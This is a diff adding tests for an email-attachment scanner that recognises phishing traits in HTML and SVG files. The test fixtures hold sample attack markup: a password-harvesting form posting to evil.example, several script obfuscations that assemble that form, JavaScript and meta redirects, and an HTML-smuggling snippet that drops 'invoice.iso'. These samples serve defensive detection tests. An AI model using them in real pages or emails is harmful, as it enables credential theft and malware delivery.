@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 from base64 import b64encode
+from time import process_time
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from firstsight.mail.inside import TRAITS, File, look_inside
-from firstsight.mail.inside.markup import MAX_FILES, data_files, open_markup
+from firstsight.mail.inside.markup import MAX_FILES, MAX_LINKS, MAX_TEXT, data_files, open_markup
+from firstsight.mail.inside.opener import Inside
 
 PNG = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(80)).decode()
 
@@ -75,3 +78,127 @@ def test_pictures_in_the_markup_are_handed_on() -> None:
 @given(st.binary(max_size=400), st.sampled_from(["text/html", "image/svg+xml"]))
 def test_any_octets_give_an_answer_in_known_words(octets: bytes, kind: str) -> None:
     assert set(look_inside(page(octets, kind)).traits) <= set(TRAITS)
+
+
+FORM = '<form action="https://evil.example/x"><input type="password" placeholder="Your key"></form>'
+PACKED = b64encode(FORM.encode()).decode()
+
+
+def opened(markup: str | bytes, detected: str = "text/html") -> Inside:
+    """What is found on a page."""
+    return open_markup.open(page(markup, detected))
+
+
+def hrefs(inside: Inside) -> list[str]:
+    """Where the links lead."""
+    assert all(place == "attachment" for _, _, place in inside.links)
+    return [href for href, _, _ in inside.links]
+
+
+def test_a_form_a_password_and_what_the_page_says_are_read() -> None:
+    inside = opened(f"<title>Sign in</title><p>Open the <a href='https://a.example/'>file </a>{FORM}")
+    assert inside.traits == ("form", "password-field")
+    assert inside.links == (
+        ("https://a.example/", "file", "attachment"),
+        ("https://evil.example/x", "", "attachment"),
+    )
+    assert inside.text == "Open the file\nSign in\nYour key"
+
+
+@pytest.mark.parametrize(
+    ("markup", "traits", "href"),
+    [
+        ("<meta http-equiv=Refresh content='0; URL=https://r.example/'>", {"redirect"}, "https://r.example/"),
+        ("<script>window.location.href = 'https://r.example/'</script>", {"script", "redirect"}, "https://r.example/"),
+        ("<script src=//cdn.example/x.js></script>", {"script"}, "//cdn.example/x.js"),
+        ("<iframe src=https://f.example/></iframe>", {"frame"}, "https://f.example/"),
+        (f"<iframe srcdoc='{FORM}'>", {"frame", "form", "password-field"}, "https://evil.example/x"),
+        (
+            f"<iframe src='data:text/html;base64,{PACKED}'>",
+            {"frame", "form", "password-field"},
+            "https://evil.example/x",
+        ),
+        (f"<a href='data:text/html,{quote(FORM)}'>x</a>", {"form", "password-field"}, "https://evil.example/x"),
+        ("<base href=https://b.example/><form action=post.php>", {"form"}, "https://b.example/post.php"),
+        ("<a href='javascript:location=%22https://j.example/%22'>x</a>", {"redirect"}, "https://j.example/"),
+        ("<svg><script>x</script></svg>", {"script", "svg-script"}, ""),
+        ("<svg><a xlink:href='https://s.example/'><text>x</text></a></svg>", set(), "https://s.example/"),
+        ("<p>A report with <b>figures</b></p><img src=https://i.example/>", set(), ""),
+    ],
+)
+def test_where_a_page_leads_and_what_it_does(markup: str, traits: set[str], href: str) -> None:
+    inside = opened(markup)
+    assert set(inside.traits) == traits
+    assert hrefs(inside) == ([href] if href else [])
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"document.write(atob('{PACKED}'))",
+        f"document.write(unescape('{quote(FORM)}'))",
+        f"x.innerHTML = '{FORM[::-1]}'.split('').reverse().join('')",
+        "document.write(String.fromCharCode(" + ",".join(str(ord(letter) + 3) for letter in FORM) + "))",
+        "eval(atob('" + b64encode(f"document.write(atob('{PACKED}'))".encode()).decode() + "'))",
+    ],
+)
+def test_a_form_that_a_script_puts_together_is_seen(script: str) -> None:
+    for markup in (f"<body><script>{script}</script>", f'<body onload="{script.replace(chr(34), "&quot;")}">'):
+        inside = opened(markup)
+        assert {"assembled-form", "script-assembly", "password-field"} <= set(inside.traits)
+        assert "https://evil.example/x" in hrefs(inside)
+
+
+def test_what_is_packed_more_often_than_is_unpacked_stays_packed() -> None:
+    script = f"document.write(atob('{PACKED}'))"
+    for _ in range(3):
+        script = f"document.write(atob('{b64encode(f'<script>{script}</script>'.encode()).decode()}'))"
+    assert "assembled-form" not in opened(f"<script>{script}</script>").traits
+
+
+def test_a_file_that_a_script_hands_over_is_smuggled() -> None:
+    script = "var b = new Blob([bytes]); a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click()"
+    assert "smuggling" in opened(f"<script>{script}</script>").traits
+    assert "smuggling" not in opened("<script>var a = new Blob([bytes]); post(a)</script>").traits
+
+
+def test_an_svg_with_a_script_is_read_in_utf_16_too() -> None:
+    markup = "<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://s.example/'</script></svg>"
+    inside = opened(markup.encode("utf-16"), "image/svg+xml")
+    assert {"svg-script", "redirect"} <= set(inside.traits)
+    assert hrefs(inside) == ["https://s.example/"]
+
+
+def test_markup_that_would_blow_up_is_read_by_patterns() -> None:
+    inside = opened("<b x=1><p>" * 30_000 + FORM + f"<script>document.write(atob('{PACKED}'))</script>")
+    assert {"form", "password-field", "script", "script-assembly"} <= set(inside.traits)
+    assert "https://evil.example/x" in hrefs(inside)
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["<", "<script>", "<script>x='<b><p>'</script>", "<iframe srcdoc='", "<div>", "<a href=http://x.y/>t",
+     "data:image/png;base64,", "<script>document  ", "<form><input>", "\n ", '<a onload="x=\'%3Ca\'">'],
+)  # fmt: skip
+def test_a_million_characters_are_read_in_bounded_time(unit: str) -> None:
+    start = process_time()
+    inside = opened(unit * (1_000_000 // len(unit)))
+    assert process_time() - start < 6.0  # less than one on an idle machine
+    assert len(inside.links) <= MAX_LINKS
+
+
+PIECES = [FORM, "<svg>", "<script>", "</script>", "<iframe srcdoc=", "'", '"', f"atob('{PACKED}')", "<a href=",
+          "javascript:", "data:text/html;base64,", "<meta http-equiv=refresh content=",
+          ";url=", "\0", "&#x", "<base href=//[", ">", "é"]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=30))
+def test_pieces_in_any_order_never_raise(pieces: list[str]) -> None:
+    inside = opened("".join(pieces))
+    assert set(inside.traits) <= set(TRAITS)
+    assert len(inside.text) <= MAX_TEXT
+
+
+@given(st.binary(max_size=300))
+def test_any_script_never_raises(octets: bytes) -> None:
+    opened(b"<script>" + octets).text.encode()
